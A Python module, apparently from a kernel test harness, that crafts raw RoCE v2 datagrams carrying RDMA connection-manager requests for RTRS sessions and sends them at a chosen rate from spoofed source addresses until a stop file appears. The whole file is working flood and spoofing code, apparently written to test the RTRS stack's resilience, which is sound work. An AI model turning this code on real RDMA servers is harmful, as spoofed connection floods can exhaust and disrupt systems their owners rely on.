# SPDX-License-Identifier: GPL-2.0
"""Requests for connections in the name of any address, as fast as a socket sends them.

A request of the connection manager is one datagram (RoCE v2 over IPv4), which needs neither an RDMA device nor a
connection. So a machine can send more of them than a library asks for, and from addresses that are not its own.
"""

from __future__ import annotations

import ipaddress
import itertools
import os
import socket
import struct
import time
import zlib
from collections.abc import Iterator
from pathlib import Path

from lib import guest_rtrs_peer as rtrs

ROCE_PORT, SOURCE_PORT = 4791, 49152
UD_SEND_ONLY, DEFAULT_PKEY, MAD_QUEUE_PAIR, MAD_QKEY = 0x64, 0xFFFF, 1, 0x80010000
DONT_FRAGMENT = 0x4000
# Class, version and attribute of a request of the connection manager.
CM_CLASS, CM_VERSION, SEND, CM_REQUEST = 7, 2, 3, 0x10
TCP_PORT_SPACE = 0x0106
# As the connection manager of Linux asks: 4 s for a response, 15 times.
TIMEOUT, RETRIES, MTU_1024 = 20, 15, 3
# How many requests are sent at once.
BURST = 4


def _network_header(source: str, target: str, length: int, number: int, *, masked: bool) -> bytes:
    """IPv4 and UDP of a datagram with so many bytes behind them; ``masked`` as the checksum of RoCE has them."""
    varies = (0xFF, 0xFF, 0xFFFF) if masked else (0, 64, 0)
    service, hops, checksum = varies
    return (struct.pack(">BBHHHBBH", 0x45, service, 28 + length, number, DONT_FRAGMENT, hops, socket.IPPROTO_UDP,
                        checksum)
            + socket.inet_aton(source) + socket.inet_aton(target)
            + struct.pack(">HHHH", SOURCE_PORT, ROCE_PORT, 8 + length, checksum))


def _gid(address: str) -> bytes:
    """The GID of an IPv4 address."""
    return ipaddress.IPv6Address(f"::ffff:{address}").packed


def _mad(source: str, target: str, port: int, number: int) -> bytes:
    """A request of the connection manager for the first connection of a new session."""
    header = struct.pack(">BBBBHHQHHI", 1, CM_CLASS, CM_VERSION, SEND, 0, 0, number, CM_REQUEST, 0, 0)
    # Identifier; service; adapter; queue pair; what it takes; timeouts and retries.
    request = struct.pack(">IIQQII", number, 0, TCP_PORT_SPACE << 16 | port, 0x0200000000000000 | number, 0, 0)
    queue_pair = number & 0xFFFFFF
    request += struct.pack(">IIIIHBB", queue_pair << 8 | 1, 1, TIMEOUT << 3, queue_pair << 8 | TIMEOUT << 3 | 7,
                           DEFAULT_PKEY, MTU_1024 << 4 | 7, RETRIES << 4)
    # The path: local identifiers mean nothing here.
    request += struct.pack(">HH16s16sIBBBB", 0xFFFF, 0xFFFF, _gid(source), _gid(target), 3, 0, 64, 0, TIMEOUT << 3)
    alternative = bytes(44)
    addresses = struct.pack(">BBH12x4s12x4s", 0, 0x40, 1024 + number % 60000, socket.inet_aton(source),
                            socket.inet_aton(target))
    private = addresses + rtrs.conn_req(sess_uuid=os.urandom(16), paths_uuid=os.urandom(16), cid_num=2)
    mad = header + request + alternative + private
    assert len(mad) == 256, len(mad)
    return mad


def datagram(source: str, target: str, port: int, number: int) -> bytes:
    """The whole datagram, from its IP header on, with the checksum of RoCE."""
    transport = struct.pack(">BBHII", UD_SEND_ONLY, 0, DEFAULT_PKEY, MAD_QUEUE_PAIR, number & 0xFFFFFF)
    rest = struct.pack(">II", MAD_QKEY, MAD_QUEUE_PAIR) + _mad(source, target, port, number)
    length, place = len(transport) + len(rest) + 4, 1 + number % 0xFFFE
    # What routers and switches change counts as ones: a local header, parts of IP and UDP, the reserved byte.
    masked = (b"\xff" * 8 + _network_header(source, target, length, place, masked=True)
              + transport[:4] + b"\xff" + transport[5:] + rest)
    return (_network_header(source, target, length, place, masked=False) + transport + rest
            + struct.pack("<I", zlib.crc32(masked)))


def _requests(sources: list[str], target: str, port: int) -> Iterator[tuple[bytes, tuple[str, int]]]:
    # Each one is of another queue pair: one of a queue pair that is known would be refused at once.
    first = int.from_bytes(os.urandom(2), "big") << 8
    for number, source in zip(itertools.count(first + 1), itertools.cycle(sources), strict=False):
        yield datagram(source, target, port, number), (target, 0)


def flood(address: str, sources: list[str], rate: int, until: str, port: int = 1234) -> tuple[int, float]:
    """Ask for so many connections a second, in the name of each of these addresses in turn, until a file is there:
    how many, and in what time."""
    requests = _requests(sources, address, port)
    started, asked = time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while not Path(until).exists():
            for data, target in itertools.islice(requests, BURST):
                raw.sendto(data, target)
            asked += BURST
            time.sleep(max(started + asked / rate - time.monotonic(), 0))
        return asked, time.monotonic() - started
